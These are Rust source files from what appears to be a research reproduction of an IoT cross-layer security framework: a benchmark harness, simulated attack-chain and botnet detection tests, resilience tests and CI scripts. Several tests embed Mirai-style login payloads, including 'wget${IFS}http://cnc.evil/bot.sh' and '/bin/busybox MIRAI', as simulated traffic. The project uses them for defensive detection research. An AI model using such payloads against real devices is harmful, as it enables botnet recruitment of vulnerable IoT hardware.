pub fn black_box<T>(x: T) -> T {
    std::hint::black_box(x)
}

/// Throughput annotation for a benchmark group.
#[derive(Debug, Clone, Copy)]
pub enum Throughput {
    /// Bytes processed per iteration.
    Bytes(u64),
    /// Elements processed per iteration.
    Elements(u64),
}

/// Identifies one benchmark within a group.
#[derive(Debug, Clone)]
pub struct BenchmarkId {
    id: String,
}

impl BenchmarkId {
    /// `function_name/parameter` form.
    pub fn new(function_name: impl Into<String>, parameter: impl fmt::Display) -> Self {
        BenchmarkId {
            id: format!("{}/{}", function_name.into(), parameter),
        }
    }

    /// Parameter-only form.
    pub fn from_parameter(parameter: impl fmt::Display) -> Self {
        BenchmarkId {
            id: parameter.to_string(),
        }
    }
}

impl From<&str> for BenchmarkId {
    fn from(s: &str) -> Self {
        BenchmarkId { id: s.to_string() }
    }
}

impl From<String> for BenchmarkId {
    fn from(s: String) -> Self {
        BenchmarkId { id: s }
    }
}

/// Passed to the closure; runs the measured routine.
pub struct Bencher {
    iters_per_sample: u64,
    samples: Vec<f64>,
    sample_size: usize,
}

impl Bencher {
    /// Measures `routine`: calibrates an iteration count to roughly
    /// [`SAMPLE_TARGET`] per sample, then records `sample_size` samples.
    pub fn iter<O, R: FnMut() -> O>(&mut self, mut routine: R) {
        // Calibrate.
        let mut iters = 1u64;
        loop {
            let start = Instant::now();
            for _ in 0..iters {
                std::hint::black_box(routine());
            }
            let elapsed = start.elapsed();
            if elapsed >= SAMPLE_TARGET || iters >= 1 << 24 {
                break;
            }
            iters = if elapsed.is_zero() {
                iters * 16
            } else {
                let scale = SAMPLE_TARGET.as_secs_f64() / elapsed.as_secs_f64();
                ((iters as f64 * scale.clamp(1.1, 16.0)) as u64).max(iters + 1)
            };
        }
        self.iters_per_sample = iters;
        // Sample.
        self.samples.clear();
        for _ in 0..self.sample_size {
            let start = Instant::now();
            for _ in 0..iters {
                std::hint::black_box(routine());
            }
            self.samples
                .push(start.elapsed().as_secs_f64() / iters as f64);
        }
    }

    fn median_secs(&mut self) -> f64 {
        if self.samples.is_empty() {
            return f64::NAN;
        }
        self.samples
            .sort_by(|a, b| a.partial_cmp(b).expect("no NaN samples"));
        self.samples[self.samples.len() / 2]
    }
}

/// A named group of benchmarks sharing sample-size/throughput settings.
pub struct BenchmarkGroup<'a> {
    name: String,
    sample_size: usize,
    throughput: Option<Throughput>,
    _criterion: &'a mut Criterion,
}

impl BenchmarkGroup<'_> {
    /// Sets the number of samples per benchmark.
    pub fn sample_size(&mut self, n: usize) -> &mut Self {
        self.sample_size = n.max(2);
        self
    }

    /// Annotates throughput for subsequent benchmarks.
    pub fn throughput(&mut self, throughput: Throughput) -> &mut Self {
        self.throughput = Some(throughput);
        self
    }

    /// Runs one benchmark.
    pub fn bench_function<F>(&mut self, id: impl Into<BenchmarkId>, mut f: F) -> &mut Self
    where
        F: FnMut(&mut Bencher),
    {
        let id = id.into();
        let mut bencher = Bencher {
            iters_per_sample: 0,
            samples: Vec::new(),
            sample_size: self.sample_size,
        };
        f(&mut bencher);
        self.report(&id, bencher);
        self
    }

    /// Runs one benchmark with an input value.
    pub fn bench_with_input<I: ?Sized, F>(
        &mut self,
        id: BenchmarkId,
        input: &I,
        mut f: F,
    ) -> &mut Self
    where
        F: FnMut(&mut Bencher, &I),
    {
        let mut bencher = Bencher {
            iters_per_sample: 0,
            samples: Vec::new(),
            sample_size: self.sample_size,
        };
        f(&mut bencher, input);
        self.report(&id, bencher);
        self
    }

    fn report(&self, id: &BenchmarkId, mut bencher: Bencher) {
        let secs = bencher.median_secs();
        let time = if secs >= 1e-3 {
            format!("{:.4} ms", secs * 1e3)
        } else if secs >= 1e-6 {
            format!("{:.4} µs", secs * 1e6)
        } else {
            format!("{:.2} ns", secs * 1e9)
        };
        let thrpt = match self.throughput {
            Some(Throughput::Bytes(b)) => {
                format!("  thrpt: {:.2} MiB/s", b as f64 / secs / (1024.0 * 1024.0))
            }
            Some(Throughput::Elements(e)) => {
                format!("  thrpt: {:.0} elem/s", e as f64 / secs)
            }
            None => String::new(),
        };
        println!(
            "{}/{}  time: [{time}]{thrpt}  ({} iters/sample × {} samples)",
            self.name, id.id, bencher.iters_per_sample, self.sample_size
        );
    }

    /// Ends the group (no-op; parity with upstream API).
    pub fn finish(&mut self) {}
}

/// The benchmark driver.
#[derive(Debug, Default)]
pub struct Criterion {}

impl Criterion {
    /// Opens a named benchmark group.
    pub fn benchmark_group(&mut self, name: impl Into<String>) -> BenchmarkGroup<'_> {
        let name = name.into();
        println!("\n== bench group: {name}");
        BenchmarkGroup {
            name,
            sample_size: 10,
            throughput: None,
            _criterion: self,
        }
    }
}

/// Declares a benchmark group function list (upstream-compatible shape).
#[macro_export]
macro_rules! criterion_group {
    ($group:ident, $($target:path),+ $(,)?) => {
        pub fn $group() {
            let mut criterion = $crate::Criterion::default();
            $( $target(&mut criterion); )+
        }
    };
}

/// Declares the bench `main` running the listed groups.
#[macro_export]
macro_rules! criterion_main {
    ($($group:path),+ $(,)?) => {
        fn main() {
            $( $group(); )+
        }
    };
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn measures_something_positive() {
        let mut c = Criterion::default();
        let mut group = c.benchmark_group("selftest");
        group.sample_size(3);
        group.throughput(Throughput::Bytes(1024));
        group.bench_function("noop_sum", |b| {
            b.iter(|| (0..100u64).sum::<u64>());
        });
        group.bench_with_input(BenchmarkId::new("param", 7), &7u64, |b, &n| {
            b.iter(|| (0..n).product::<u64>());
        });
        group.finish();
    }
}
