//! Multi-step attack-chain integration tests: the composed scenarios the
//! paper's threat analysis describes, exercised across crates.

use xlf::attacks::device::upnp_sniff;
use xlf::attacks::mitm::{mitm_attempt, MitmOutcome};
use xlf::attacks::replay::{is_replay_rejection, replay_frame};
use xlf::protocols::ieee802154::{FrameReceiver, FrameSender, SecurityLevel};
use xlf::protocols::ssdp::SsdpMessage;
use xlf::protocols::tls::{Role, Session};

/// The Table II pivot chain: coffee machine leaks the WiFi password over
/// plaintext SSDP → the attacker derives the oven's PSK → MitM on the
/// oven channel succeeds. Closing the first link (no secret in SSDP)
/// breaks the whole chain.
#[test]
fn upnp_leak_enables_the_oven_mitm_pivot() {
    // Step 1: the vulnerable setup broadcast.
    let setup = vec![
        SsdpMessage::notify("urn:acme:device:coffeemaker:1", "uuid:cafe")
            .with_field("X-Setup-Wifi-Pass", "home-network-password-123"),
    ];
    let leaked = upnp_sniff(&setup);
    assert_eq!(leaked.len(), 1);
    let leaked_psk = leaked[0].1.as_bytes();

    // Step 2: the oven's session is keyed from the same WiFi password.
    let mut oven = Session::establish(b"home-network-password-123", "oven", Role::Client);
    let record = oven.seal(b"oven: disable safety interlock").unwrap();

    // Step 3: the attacker reads and forges with the leaked key.
    let outcome = mitm_attempt(leaked_psk, "oven", 0, &record, None);
    assert_eq!(
        outcome,
        MitmOutcome::Read(b"oven: disable safety interlock".to_vec())
    );

    // Mitigated chain: the hardened setup discloses nothing, so the
    // attacker has only guesses — and stays blind.
    let hardened_setup = vec![
        SsdpMessage::notify("urn:acme:device:coffeemaker:1", "uuid:cafe")
            .with_field("LOCATION", "https://10.0.0.9/secure-setup"),
    ];
    assert!(upnp_sniff(&hardened_setup).is_empty());
    let blind = mitm_attempt(b"attacker guess", "oven", 0, &record, None);
    assert_eq!(blind, MitmOutcome::Blind);
}

/// Replay end to end: a captured "unlock" frame is worthless against a
/// receiver with replay state, across both the 802.15.4 and TLS layers.
#[test]
fn captured_unlock_frames_cannot_be_replayed() {
    let key = b"zigbee network key";
    let mut lock_remote = FrameSender::new(0x0A, key);
    let mut lock = FrameReceiver::new(key, &[0x0A]);

    // The legitimate unlock, captured by the attacker in passing.
    let unlock = lock_remote.secure(SecurityLevel::EncMic, b"lock: open");
    assert_eq!(lock.receive(&unlock).unwrap(), b"lock: open");

    // Hours later the attacker replays it at the door.
    assert_eq!(replay_frame(&mut lock, &unlock, 25), 0);
    assert!(is_replay_rejection(&lock.receive(&unlock).unwrap_err()));

    // The same property at the TLS layer.
    let mut app = Session::establish(b"psk", "lock-session", Role::Client);
    let mut cloud = Session::establish(b"psk", "lock-session", Role::Server);
    let record = app.seal(b"unlock").unwrap();
    assert!(cloud.open(&record).is_ok());
    assert!(cloud.open(&record).is_err());
}

/// The §IV-C2 over-privileged app is stopped by the scoped permission
/// model but sails through the permissive one — end to end through the
/// cloud's own execution pipeline.
#[test]
fn overprivileged_app_contained_by_scoped_permissions() {
    use xlf::attacks::overprivilege::malicious_unlock_app;
    use xlf::cloud::smartapp::PermissionModel;
    use xlf::cloud::{Capability, DeviceHandler, EventPolicy, SmartCloud};
    use xlf::simnet::SimTime;

    for (model, expect_unlock) in [
        (PermissionModel::Permissive, true),
        (PermissionModel::Scoped, false),
    ] {
        let mut cloud = SmartCloud::new(EventPolicy::permissive(), model, b"hub secret");
        cloud.register_device(DeviceHandler::new(
            "hall-motion",
            &[Capability::MotionSensor],
        ));
        cloud.register_device(DeviceHandler::new("lamp", &[Capability::Switch]));
        cloud.register_device(DeviceHandler::new("front-door", &[Capability::Lock]));
        cloud.install_app(malicious_unlock_app("hall-motion", "lamp", "front-door"));

        // Motion stops — the hidden rule tries to unlock the door.
        let actions = cloud.ingest(SimTime::from_secs(1), "hall-motion", "motion", "0", true);
        let unlocked = actions
            .iter()
            .any(|a| a.device == "front-door" && a.command == "unlock");
        assert_eq!(unlocked, expect_unlock, "model {model:?}");
        if !expect_unlock {
            assert!(
                !cloud.denied_actions.is_empty(),
                "the denial must be recorded for the Core"
            );
        }
    }
}

/// The DPI rule set in xlf-core matches the C&C signatures the attacks
/// crate actually embeds in its traffic (the contract the encrypted-DPI
/// experiment depends on).
#[test]
fn dpi_signatures_agree_with_the_attack_library() {
    let core_side = xlf::core::dpi::xlf_attacks_signatures();
    let attack_side = xlf::attacks::mirai::CNC_SIGNATURES;
    assert_eq!(core_side.len(), attack_side.len());
    for (a, b) in core_side.iter().zip(attack_side.iter()) {
        assert_eq!(a, b, "signature lists diverged");
    }
}
