//! Contract tests for the table/figure regeneration harnesses: the
//! invariants the paper's artifacts depend on. If any of these break, a
//! harness would print a table that no longer matches the paper's shape.

use xlf::attacks::{attack_catalog, SurfaceArea};
use xlf::device::{catalog, DeviceSpec, ResourceModel};
use xlf::lwcrypto::{registry, SpecFidelity};
use xlf::protocols::stack::{stack_map, StackLayer};

#[test]
fn table1_has_21_devices_with_full_metadata() {
    let devices = catalog();
    assert_eq!(devices.len(), 21);
    for spec in &devices {
        assert!(!spec.name.is_empty());
        assert!(!spec.chipset.is_empty());
        assert!(spec.core_hz > 0);
    }
}

#[test]
fn table1_feasibility_is_monotone_in_device_power() {
    // A phone must fit at least as many ciphers as a sensor at any rate.
    let infos: Vec<_> = registry(b"contract").iter().map(|c| c.info()).collect();
    let count = |class| {
        let model = ResourceModel::new(DeviceSpec::of(class));
        infos
            .iter()
            .filter(|i| model.crypto_feasibility(i, 1_000.0).fits())
            .count()
    };
    use xlf::device::DeviceClass::*;
    assert!(count(Iphone6sPlus) >= count(NestSmokeDetector));
    assert!(count(NestSmokeDetector) >= count(HidGlassTagRfid));
    assert_eq!(count(HidGlassTagRfid), 0, "passive tags run nothing");
}

#[test]
fn table2_rows_are_exactly_the_papers_seven() {
    let rows: Vec<_> = attack_catalog()
        .into_iter()
        .filter_map(|a| a.table2_row)
        .collect();
    assert_eq!(rows.len(), 7);
    let impacts: Vec<&str> = rows.iter().map(|r| r.3).collect();
    assert!(impacts.contains(&"Bulb controlled by remote"));
    assert!(impacts.contains(&"Hijack password of Wi-Fi"));
}

#[test]
fn table3_covers_all_sixteen_algorithms_with_fidelity_tags() {
    let mut names: Vec<&str> = registry(b"contract")
        .iter()
        .map(|c| c.info().name)
        .collect();
    names.sort();
    names.dedup();
    // The paper's sixteen plus SPECK/SIMON from the cited NIST report.
    assert!(names.len() >= 16, "only {} algorithms", names.len());
    let exact = registry(b"contract")
        .iter()
        .filter(|c| c.info().fidelity == SpecFidelity::Exact)
        .map(|c| c.info().name)
        .collect::<std::collections::BTreeSet<_>>();
    // The KAT-verified set must include the workhorse algorithms.
    for name in ["AES", "DES", "3DES", "PRESENT", "RC5", "SPECK"] {
        assert!(exact.contains(name), "{name} lost its exact tag");
    }
}

#[test]
fn figure2_stack_has_every_layer_populated() {
    let map = stack_map();
    for layer in [
        StackLayer::LinkPhysical,
        StackLayer::Network,
        StackLayer::Transport,
        StackLayer::Application,
    ] {
        assert!(map.iter().any(|e| e.layer == layer));
    }
    assert!(map.len() >= 12);
}

#[test]
fn figure3_covers_every_owasp_surface_area() {
    let catalog = attack_catalog();
    for surface in [
        SurfaceArea::DeviceFirmwareAndStorage,
        SurfaceArea::AdminInterfaces,
        SurfaceArea::DeviceNetworkServices,
        SurfaceArea::NetworkTraffic,
        SurfaceArea::CloudApis,
        SurfaceArea::ApplicationEcosystem,
        SurfaceArea::UpdateMechanism,
    ] {
        assert!(catalog.iter().any(|a| a.surface == surface));
    }
}

#[test]
fn every_cipher_roundtrips_through_the_facade() {
    for cipher in registry(b"facade roundtrip") {
        let mut block = vec![0x3Cu8; cipher.block_size()];
        let original = block.clone();
        cipher.encrypt_block(&mut block).unwrap();
        assert_ne!(block, original, "{}", cipher.info().name);
        cipher.decrypt_block(&mut block).unwrap();
        assert_eq!(block, original, "{}", cipher.info().name);
    }
}
