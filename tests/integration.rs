//! Cross-crate integration tests exercised through the `xlf` facade:
//! the full home pipeline, the headline cross-layer result, and the
//! contracts the table/figure harnesses rely on.

use xlf::core::alerts::Severity;
use xlf::core::correlation::{CorrelationConfig, CorrelationEngine};
use xlf::core::evidence::Layer;
use xlf::core::framework::{HomeDevice, XlfConfig, XlfHome};
use xlf::device::{SensorKind, VulnSet, Vulnerability};
use xlf::simnet::{Context, Duration, Medium, Node, NodeId, Packet, SimTime, TimerId};

/// WAN attacker that recruits the camera and orders a flood.
struct BotnetAttacker {
    gateway: NodeId,
    victim: NodeId,
}

impl Node for BotnetAttacker {
    fn on_start(&mut self, ctx: &mut Context<'_>) {
        ctx.set_timer(Duration::from_secs(180), 1);
        ctx.set_timer(Duration::from_secs(200), 2);
    }
    fn on_timer(&mut self, ctx: &mut Context<'_>, _t: TimerId, tag: u64) {
        match tag {
            1 => {
                let login = Packet::new(
                    ctx.id(),
                    self.gateway,
                    "login",
                    b"wget${IFS}http://cnc.evil/bot.sh".to_vec(),
                )
                .with_meta("device", "cam")
                .with_meta("user", "admin")
                .with_meta("pass", "admin");
                ctx.send(self.gateway, login);
            }
            2 => {
                let order = Packet::new(ctx.id(), self.gateway, "attack-cmd", Vec::new())
                    .with_meta("device", "cam")
                    .with_meta("target", &self.victim.raw().to_string())
                    .with_meta("count", "200");
                ctx.send(self.gateway, order);
            }
            _ => {}
        }
    }
}

struct FloodCounter {
    hits: u64,
}
impl Node for FloodCounter {
    fn on_packet(&mut self, _ctx: &mut Context<'_>, packet: Packet) {
        if packet.kind == "ddos" {
            self.hits += 1;
        }
    }
}

fn botnet_home(config: XlfConfig) -> (XlfHome, NodeId) {
    let devices = [
        HomeDevice::new("thermo", SensorKind::Temperature),
        HomeDevice::new("cam", SensorKind::Camera)
            .with_vulns(VulnSet::of(&[Vulnerability::StaticPassword])),
    ];
    let mut home = XlfHome::build(7, config, &devices);
    let victim = home.net.add_node(Box::new(FloodCounter { hits: 0 }));
    home.net
        .connect(victim, home.gateway, Medium::Wan.link().with_loss(0.0));
    let attacker = home.net.add_node(Box::new(BotnetAttacker {
        gateway: home.gateway,
        victim,
    }));
    home.net
        .connect(attacker, home.gateway, Medium::Wan.link().with_loss(0.0));
    home.net.run_until(SimTime::from_secs(420));
    (home, victim)
}

#[test]
fn undefended_home_falls_to_the_botnet() {
    let (home, victim) = botnet_home(XlfConfig::off());
    assert!(home.device_ref("cam").is_compromised());
    let hits = home.net.node_as::<FloodCounter>(victim).unwrap().hits;
    assert_eq!(hits, 200, "the whole flood reaches the victim");
}

#[test]
fn xlf_quarantines_the_bot_before_the_flood() {
    let (home, victim) = botnet_home(XlfConfig::full());
    assert!(home.gateway_ref().nac.is_quarantined("cam"));
    let hits = home.net.node_as::<FloodCounter>(victim).unwrap().hits;
    assert_eq!(hits, 0, "no flood packet escapes the home");
    assert!(home
        .core
        .borrow()
        .alerts
        .has_alert("cam", Severity::Critical));
}

#[test]
fn cross_layer_fusion_scores_higher_than_any_single_layer() {
    // The Figure 4 claim as a regression test (single seed).
    let (home, _victim) = botnet_home(XlfConfig::full());
    let core = home.core.borrow();
    let now = SimTime::from_secs(420);
    let fused = CorrelationEngine::new(CorrelationConfig::default())
        .evaluate_device(&core.store, "cam", now)
        .score;
    for layer in [Layer::Device, Layer::Network, Layer::Service] {
        let single = CorrelationEngine::new(CorrelationConfig {
            only_layer: Some(layer),
            ..Default::default()
        })
        .evaluate_device(&core.store, "cam", now)
        .score;
        assert!(
            fused >= single,
            "fusion ({fused}) must not lose to {layer:?}-only ({single})"
        );
    }
    assert!(fused > 0.6, "fused verdict must be act-level, got {fused}");
}

#[test]
fn simulation_is_deterministic_end_to_end() {
    let (home_a, _) = botnet_home(XlfConfig::full());
    let (home_b, _) = botnet_home(XlfConfig::full());
    assert_eq!(home_a.net.stats(), home_b.net.stats());
    assert_eq!(
        home_a.core.borrow().store.len(),
        home_b.core.borrow().store.len()
    );
    assert_eq!(
        home_a.core.borrow().alerts.alerts().len(),
        home_b.core.borrow().alerts.alerts().len()
    );
}

#[test]
fn benign_month_of_telemetry_raises_no_alarms() {
    let devices = [
        HomeDevice::new("thermo", SensorKind::Temperature)
            .with_telemetry_period(Duration::from_secs(60)),
        HomeDevice::new("meter", SensorKind::Power).with_telemetry_period(Duration::from_secs(60)),
    ];
    let mut home = XlfHome::build(3, XlfConfig::full(), &devices);
    // Three simulated days.
    home.net.run_until(SimTime::from_secs(3 * 24 * 3600));
    let core = home.core.borrow();
    assert!(
        core.alerts.at_least(Severity::Warning).is_empty(),
        "false alarms on benign telemetry: {:?}",
        core.alerts.alerts()
    );
}

#[test]
fn fifty_device_home_scales_and_stays_quiet() {
    // Scalability smoke: a large home under full XLF runs to completion
    // with zero false alarms and full telemetry flow.
    let kinds = [
        SensorKind::Temperature,
        SensorKind::Motion,
        SensorKind::Power,
        SensorKind::Smoke,
        SensorKind::Camera,
    ];
    let devices: Vec<HomeDevice> = (0..50)
        .map(|i| {
            HomeDevice::new(&format!("dev{i}"), kinds[i % kinds.len()])
                .with_telemetry_period(Duration::from_secs(20 + (i % 7) as u64))
        })
        .collect();
    let mut home = XlfHome::build(13, XlfConfig::full(), &devices);
    home.net.run_until(SimTime::from_secs(900));
    let core = home.core.borrow();
    assert!(
        core.alerts.at_least(Severity::Warning).is_empty(),
        "false alarms at scale: {:?}",
        core.alerts.alerts()
    );
    assert!(
        home.gateway_ref().forwarded > 1500,
        "telemetry must flow at scale: {}",
        home.gateway_ref().forwarded
    );
}
