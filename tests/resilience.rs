//! Failure-injection tests: XLF must keep working when the substrate
//! degrades — lossy radios, a silent cloud, monitors that never finished
//! learning.

use xlf::core::alerts::Severity;
use xlf::core::framework::{HomeDevice, XlfConfig, XlfHome};
use xlf::device::{SensorKind, VulnSet, Vulnerability};
use xlf::simnet::{Context, Duration, Medium, Node, NodeId, Packet, SimTime, TimerId};

struct Recruiter {
    gateway: NodeId,
}
impl Node for Recruiter {
    fn on_start(&mut self, ctx: &mut Context<'_>) {
        ctx.set_timer(Duration::from_secs(180), 1);
    }
    fn on_timer(&mut self, ctx: &mut Context<'_>, _t: TimerId, tag: u64) {
        if tag == 1 {
            // Retry the recruitment a few times — radios drop packets.
            for i in 0..5u64 {
                let login = Packet::new(
                    ctx.id(),
                    self.gateway,
                    "login",
                    b"wget${IFS}http://cnc.evil/bot.sh".to_vec(),
                )
                .with_meta("device", "cam")
                .with_meta("user", "admin")
                .with_meta("pass", "admin");
                ctx.send_after(self.gateway, login, Duration::from_secs(i));
            }
        }
    }
}

/// Builds the standard botnet home but with a configurable loss rate on
/// every link (replacing XlfHome's lossless defaults).
fn lossy_home(loss: f64) -> XlfHome {
    let devices = [
        HomeDevice::new("thermo", SensorKind::Temperature),
        HomeDevice::new("cam", SensorKind::Camera)
            .with_vulns(VulnSet::of(&[Vulnerability::StaticPassword])),
    ];
    let mut home = XlfHome::build(7, XlfConfig::full(), &devices);
    // Re-link everything with loss.
    for &dev in home.devices.values() {
        home.net
            .connect(home.gateway, dev, Medium::Zigbee.link().with_loss(loss));
    }
    home.net
        .connect(home.gateway, home.cloud, Medium::Wan.link().with_loss(loss));
    let attacker = home.net.add_node(Box::new(Recruiter {
        gateway: home.gateway,
    }));
    home.net
        .connect(attacker, home.gateway, Medium::Wan.link().with_loss(loss));
    home
}

#[test]
fn detection_survives_five_percent_packet_loss() {
    let mut home = lossy_home(0.05);
    home.net.run_until(SimTime::from_secs(420));
    let core = home.core.borrow();
    assert!(
        core.alerts.has_alert("cam", Severity::Warning),
        "loss must not blind the framework: evidence = {}",
        core.store.len()
    );
    // And the lossy benign device raises nothing.
    assert!(!core.alerts.has_alert("thermo", Severity::Warning));
}

#[test]
fn heavy_loss_degrades_gracefully_without_panics_or_false_positives() {
    let mut home = lossy_home(0.4);
    home.net.run_until(SimTime::from_secs(420));
    let core = home.core.borrow();
    // No guarantees of detection at 40% loss — but never a false positive
    // on the healthy device, and no crash.
    assert!(!core.alerts.has_alert("thermo", Severity::Warning));
}

#[test]
fn gateway_keeps_enforcing_when_the_cloud_goes_silent() {
    // Cut the cloud link entirely after learning: local mechanisms
    // (DPI, monitors, quarantine) are gateway-resident and keep working.
    let devices = [HomeDevice::new("cam", SensorKind::Camera)
        .with_vulns(VulnSet::of(&[Vulnerability::StaticPassword]))];
    let mut home = XlfHome::build(7, XlfConfig::full(), &devices);
    // "Sever" the WAN by making it lose everything.
    home.net.connect(
        home.gateway,
        home.cloud,
        Medium::Wan.link().with_loss(0.999),
    );
    let attacker = home.net.add_node(Box::new(Recruiter {
        gateway: home.gateway,
    }));
    home.net
        .connect(attacker, home.gateway, Medium::Wan.link().with_loss(0.0));
    home.net.run_until(SimTime::from_secs(420));
    assert!(
        home.gateway_ref().nac.is_quarantined("cam"),
        "edge-resident enforcement must not depend on the cloud"
    );
}

#[test]
fn attack_during_learning_window_is_still_contained_by_dpi() {
    // The attacker strikes *before* the monitors finish learning: the DFA
    // is silent, but DPI (signature-based, no learning) still fires and
    // the device-layer compromise report corroborates.
    let devices = [HomeDevice::new("cam", SensorKind::Camera)
        .with_vulns(VulnSet::of(&[Vulnerability::StaticPassword]))];
    let mut config = XlfConfig::full();
    config.learning_period = Duration::from_secs(3600); // never finishes here
    let mut home = XlfHome::build(7, config, &devices);
    struct EarlyAttacker {
        gateway: NodeId,
    }
    impl Node for EarlyAttacker {
        fn on_start(&mut self, ctx: &mut Context<'_>) {
            ctx.set_timer(Duration::from_secs(30), 1);
        }
        fn on_timer(&mut self, ctx: &mut Context<'_>, _t: TimerId, _tag: u64) {
            let login = Packet::new(
                ctx.id(),
                self.gateway,
                "login",
                b"/bin/busybox MIRAI".to_vec(),
            )
            .with_meta("device", "cam")
            .with_meta("user", "admin")
            .with_meta("pass", "admin");
            ctx.send(self.gateway, login);
        }
    }
    let attacker = home.net.add_node(Box::new(EarlyAttacker {
        gateway: home.gateway,
    }));
    home.net
        .connect(attacker, home.gateway, Medium::Wan.link().with_loss(0.0));
    home.net.run_until(SimTime::from_secs(120));
    let core = home.core.borrow();
    assert!(
        core.store
            .all()
            .iter()
            .any(|e| e.kind == xlf::core::EvidenceKind::DpiMatch),
        "DPI needs no learning window"
    );
    assert!(core.alerts.has_alert("cam", Severity::Warning));
}
