//! # xlf — a cross-layer framework to secure the Internet of Things
//!
//! A full reproduction of *"XLF: A Cross-layer Framework to Secure the
//! Internet of Things (IoT)"* (Wang, Mohaisen, Chen — ICDCS 2019) as a
//! Rust workspace: the framework itself plus every substrate it needs
//! (discrete-event IoT simulator, lightweight cryptography, protocol
//! models, a SmartThings-style cloud, learning algorithms, and an attack
//! library).
//!
//! This crate is the facade: it re-exports the workspace crates under one
//! name and hosts the runnable examples.
//!
//! ## Quickstart
//!
//! ```
//! use xlf::core::framework::{HomeDevice, XlfConfig, XlfHome};
//! use xlf::device::SensorKind;
//! use xlf::simnet::SimTime;
//!
//! // Build a home with two devices and the full XLF deployment.
//! let mut home = XlfHome::build(
//!     7,
//!     XlfConfig::full(),
//!     &[
//!         HomeDevice::new("thermo", SensorKind::Temperature),
//!         HomeDevice::new("cam", SensorKind::Camera),
//!     ],
//! );
//! home.net.run_until(SimTime::from_secs(300));
//! assert!(home.gateway_ref().forwarded > 0);
//! ```
//!
//! ## Layout
//!
//! | module | crate | contents |
//! |---|---|---|
//! | [`core`] | `xlf-core` | the paper's contribution: XLF Core + layer mechanisms |
//! | [`simnet`] | `xlf-simnet` | deterministic discrete-event network simulator |
//! | [`device`] | `xlf-device` | Table I catalog, firmware/OTA, credentials, device runtime |
//! | [`protocols`] | `xlf-protocols` | DNS(+DoT/DoH/DNSSEC), TLS-lite, 802.15.4, REST, SSDP |
//! | [`cloud`] | `xlf-cloud` | SmartThings-style service layer |
//! | [`analytics`] | `xlf-analytics` | MKL, graphs, DFA, time series, fingerprinting |
//! | [`attacks`] | `xlf-attacks` | the executable Table II / Figure 3 adversary library |
//! | [`lwcrypto`] | `xlf-lwcrypto` | the Table III lightweight cipher suite |
//! | [`onboard`] | `xlf-onboard` | CoAP + ACE-style secure onboarding with energy accounting |
//! | [`fleet`] | `xlf-fleet` | sharded multi-home fleet orchestration + cross-home correlation |
//!
//! See `DESIGN.md` for the system inventory and `EXPERIMENTS.md` for the
//! paper-vs-measured record of every table and figure.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub use xlf_analytics as analytics;
pub use xlf_attacks as attacks;
pub use xlf_cloud as cloud;
pub use xlf_core as core;
pub use xlf_device as device;
pub use xlf_fleet as fleet;
pub use xlf_lwcrypto as lwcrypto;
pub use xlf_onboard as onboard;
pub use xlf_protocols as protocols;
pub use xlf_simnet as simnet;
