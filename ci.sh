#!/usr/bin/env bash
# CI gate: formatting, lints, and the tier-1 build + test suite.
# Run from the repository root.
set -euo pipefail
cd "$(dirname "$0")"

echo "== cargo fmt --check"
cargo fmt --check

echo "== cargo clippy --workspace -- -D warnings"
cargo clippy --workspace --all-targets -- -D warnings

echo "== tier-1: cargo build --release && cargo test -q"
cargo build --release
cargo test -q

echo "== smoke: fleet orchestration (32 homes, 4 workers)"
./target/release/exp_fleet --homes 32 --workers 4 --horizon 420 --json BENCH_fleet.json

echo "CI OK"
