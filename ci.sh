#!/usr/bin/env bash
# CI gate: formatting, lints, and the tier-1 build + test suite.
# Run from the repository root.
set -euo pipefail
cd "$(dirname "$0")"

echo "== cargo fmt --check"
cargo fmt --check

echo "== cargo clippy --workspace -- -D warnings"
cargo clippy --workspace --all-targets -- -D warnings

echo "== tier-1: cargo build --release && cargo test -q"
cargo build --release
cargo test -q

echo "== smoke: fleet orchestration (32 homes, 4 workers)"
./target/release/exp_fleet --homes 32 --workers 4 --horizon 420 --json BENCH_fleet.json

echo "== schema stability: byte-identical fleet reports across reruns"
tmpdir="$(mktemp -d)"
trap 'rm -rf "$tmpdir"' EXIT
./target/release/exp_fleet --homes 16 --workers 2 --horizon 420 --capacity 64 \
    --report "$tmpdir/report_a.json" --json "$tmpdir/bench_a.json" >/dev/null
./target/release/exp_fleet --homes 16 --workers 2 --horizon 420 --capacity 64 \
    --report "$tmpdir/report_b.json" --json "$tmpdir/bench_b.json" >/dev/null
diff "$tmpdir/report_a.json" "$tmpdir/report_b.json" \
    || { echo "fleet report is not stable across reruns"; exit 1; }
grep -q '"schema_version":' "$tmpdir/report_a.json" \
    || { echo "fleet report JSON is missing schema_version"; exit 1; }
grep -q '"schema_version":' BENCH_fleet.json \
    || { echo "fleet metrics JSON is missing schema_version"; exit 1; }

echo "== smoke: fault injection + supervised execution (18 homes, 2 workers)"
./target/release/exp_faults --homes 18 --workers 2 --json "$tmpdir/bench_faults.json"
grep -q '"conservation":' "$tmpdir/bench_faults.json" \
    || { echo "fault bench JSON is missing the conservation note"; exit 1; }

echo "== smoke: streamed correlation interval sweep (24 homes, 2 workers)"
./target/release/exp_stream --homes 24 --workers 2 --json "$tmpdir/bench_stream.json"
grep -q '"checkpoint_stable": true' "$tmpdir/bench_stream.json" \
    || { echo "stream bench JSON lost checkpoint/resume stability"; exit 1; }
grep -q '"verdicts_match_batch": true' "$tmpdir/bench_stream.json" \
    || { echo "stream bench JSON lost verdict parity with batch"; exit 1; }

echo "== smoke: engine hot-path ratio gates (self-asserting)"
./target/release/exp_engine --smoke --json "$tmpdir/bench_engine.json"
grep -q '"knn_graph_speedup_at_1k":' "$tmpdir/bench_engine.json" \
    || { echo "engine bench JSON is missing the acceptance block"; exit 1; }

echo "== smoke: OTA campaign containment (64 homes, 4 workers, self-asserting)"
./target/release/exp_ota --homes 64 --workers 4 --json "$tmpdir/bench_ota.json"
grep -q '"byte_identical_workers": true' "$tmpdir/bench_ota.json" \
    || { echo "ota bench JSON lost worker-count byte identity"; exit 1; }
grep -q '"contained": true' "$tmpdir/bench_ota.json" \
    || { echo "ota bench JSON shows no contained tampered campaign"; exit 1; }

echo "== golden-byte rerun gate: report bytes unchanged across reruns"
cargo test -p xlf-fleet --test schema -q
cargo test -p xlf-fleet --test determinism -q

echo "== schema gate: v5 goldens are current (and v4 goldens are retired)"
ls crates/fleet/tests/golden/fleet_report_v5.json \
   crates/fleet/tests/golden/fleet_metrics_v5.json \
   crates/fleet/tests/golden/fleet_report_campaign_v5.json >/dev/null \
    || { echo "v5 schema goldens are missing"; exit 1; }
